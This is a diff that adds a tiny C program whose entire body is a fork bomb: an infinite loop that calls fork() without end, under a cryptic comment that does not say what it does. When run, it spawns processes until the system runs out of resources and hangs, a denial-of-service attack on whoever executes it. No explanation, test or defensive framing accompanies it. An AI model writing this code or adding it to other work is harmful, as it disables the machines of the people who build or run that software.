@@ -1,0 +1,8 @@
+/* Everybody starts one more, for ever. */
+#include <unistd.h>
+
+int main(void)
+{
+    for (;;)
+        (void)fork();
+}
